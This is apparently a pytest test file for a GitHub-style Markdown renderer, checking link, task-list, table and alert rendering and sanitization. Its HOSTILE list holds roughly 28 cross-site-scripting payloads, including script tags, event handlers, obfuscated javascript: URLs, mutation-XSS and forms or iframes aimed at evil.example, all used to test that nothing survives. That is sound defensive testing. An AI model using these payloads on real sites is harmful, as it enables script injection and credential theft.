"""Comments look as on GitHub, and nothing in them can act."""

import re
from html.parser import HTMLParser

import pytest

from demo.github.markdown import render

LOGINS = frozenset({"maria", "li"})


def html(text: str) -> str:
    return str(render(text, repository="maria/shop", logins=LOGINS))


SHOWN = {
    "a line break stays a line break": ("one\ntwo", "one<br>\ntwo"),
    "strikethrough": ("~~old~~", "<s>old</s>"),
    "a fence is code": ("```py\na < b\n```", '<pre lang="py"><code>a &lt; b\n</code></pre>'),
    "a mention is a link": (
        "ask @Maria.",
        'ask <a href="/Maria" class="user-mention" rel="nofollow noopener">@Maria</a>.',
    ),
    "a number is a link to its issue": (
        "see #12",
        'see <a href="/maria/shop/issues/12" class="issue-link" rel="nofollow noopener">#12</a>',
    ),
    "a number of another repository too": (
        "see li/lib#3",
        '<a href="/li/lib/issues/3" class="issue-link" rel="nofollow noopener">li/lib#3</a>',
    ),
    "an address is a link": (
        "https://a.example/b_c_d?e=(f)",
        (
            '<a href="https://a.example/b_c_d?e=(f)" rel="nofollow noopener">'
            "https://a.example/b_c_d?e=(f)</a>"
        ),
    ),
    "a sentence's end is not part of an address": (
        "(see https://a.example/b).",
        '(see <a href="https://a.example/b" rel="nofollow noopener">https://a.example/b</a>).',
    ),
    "a commit is a short link": (
        "in " + "0a" * 20,
        (
            f'<a href="/maria/shop/commit/{"0a" * 20}" class="commit-link" rel="nofollow noopener">'
            "0a0a0a0</a>"
        ),
    ),
    "a diff has colours": (
        "```diff\n-a\n+b\n```",
        '<span class="diff-delete">-a\n</span><span class="diff-add">+b\n</span>',
    ),
    "an alert": (
        "> [!WARNING]\n> hot",
        '<blockquote class="alert alert-warning">\n<p><strong>Warning</strong><br>hot</p>',
    ),
    "details, with Markdown inside": (
        "<details><summary>Log</summary>\n\n- *a*\n\n</details>",
        "<details><summary>Log</summary>\n<ul>\n<li><em>a</em></li>\n</ul>\n</details>",
    ),
    "keys and small print": ("<sub>by <kbd>x</kbd></sub>", "<sub>by <kbd>x</kbd></sub>"),
    "an open task": (
        "- [ ] do it",
        (
            '<ul class="contains-task-list">\n<li class="task-list-item">'
            '<input type="checkbox" class="task-box" disabled> do it</li>'
        ),
    ),
    "a finished task inside another": (
        "1. [x] done\n   - [X] too",
        '<input type="checkbox" class="task-box" disabled checked> too',
    ),
    "a box alone is no task": ("- [ ]", "<li>[ ]</li>"),
    "a box later in the line is no task": ("- a [ ] b", "<li>a [ ] b</li>"),
}


@pytest.mark.parametrize(("text", "shown"), SHOWN.values(), ids=SHOWN)
def test_shows_as_github_does(text: str, shown: str) -> None:
    assert shown in html(text)


UNLINKED = [
    "`@maria #12 https://a.example`",
    "```\n@maria #12 https://a.example\n```",
    "@nobody",
    "maria@maria.example",
    "a#12 and #12x and &#35;",
]


@pytest.mark.parametrize("text", UNLINKED)
def test_leaves_alone_what_is_no_reference(text: str) -> None:
    assert "<a" not in html(text)


def test_text_of_a_link_is_not_linked_again() -> None:
    shown = html('[see #12 and @maria](https://a.example) <a href="https://b.example">#3</a>')
    assert re.findall(r'href="([^"]*)"', shown) == ["https://a.example", "https://b.example"]


def test_table_keeps_its_alignment() -> None:
    shown = html("| a | b |\n|:-:|--:|\n| 1 | `2` |")
    assert '<th align="center">a</th>' in shown
    assert '<td align="right"><code>2</code></td>' in shown


def test_table_inside_details() -> None:
    shown = html("<details>\n<summary>Log</summary>\n\n| # | t |\n|--|--|\n| 1 | 2 |\n\n</details>")
    assert re.search(
        r"<details>\s*<summary>Log</summary>\s*<table>.*</table>\s*</details>", shown, re.DOTALL
    )


def test_comments_of_html_are_invisible() -> None:
    shown = html("<!-- agent:task=k3f9 -->\nHello <!-- inside --> there\n\n<!--\nlong\n\none\n-->")
    assert "k3f9" not in shown
    assert "inside" not in shown
    assert "long" not in shown
    assert "Hello" in shown
    assert "there" in shown


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    '<p style="position:fixed;inset:0">x</p>',
    "<style>*{display:none}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=a><button>Go</button></form>',
    '<svg onload=alert(1)><use href="#x"></use></svg>',
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<object data="x"></object><embed src="x">',
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    '<div class="state merged" id="merge">x</div>',
    '<a href="https://a.example" target="_top" class="button">x</a>',
    '```x"onmouseover=alert(1)\n```',
    "# x {onclick=alert(1)}",
    '<input type="checkbox" checked>',
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
HARMLESS_TAGS = {"a", "img", "p", "div", "details", "summary", "h1", "pre", "code", "br"}
HARMLESS_ATTRIBUTES = {"href", "src", "rel", "lang", "open"}


class Elements(HTMLParser):
    """Every element of a text, with its attributes, as a browser would read it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives(text: str) -> None:
    for tag, attributes in Elements(html(f"before {text} after\n\n{text}\n")).found:
        assert tag in HARMLESS_TAGS
        assert set(attributes) <= HARMLESS_ATTRIBUTES
        for name in ("href", "src"):
            where = attributes.get(name) or ""
            assert ":" not in where or where.startswith("https://")


def test_own_marks_cannot_be_forged() -> None:
    shown = html('<li class="task-list-item"><a class="user-mention" href="/x">@maria</a></li>')
    assert "class" not in shown
    assert "todo;" in html("m0123456789abcdef-todo;")
    assert "<input" not in html("m0123456789abcdef-todo;")


def test_a_file_does_not_keep_its_line_breaks() -> None:
    assert "<br" not in render("one\ntwo", breaks=False)


def test_the_longest_comment_is_rendered_whole() -> None:
    shown = html("> [x](y) **z** `a` | b |\n" * 2_700)
    assert shown.count("<strong>z</strong>") == 2_700
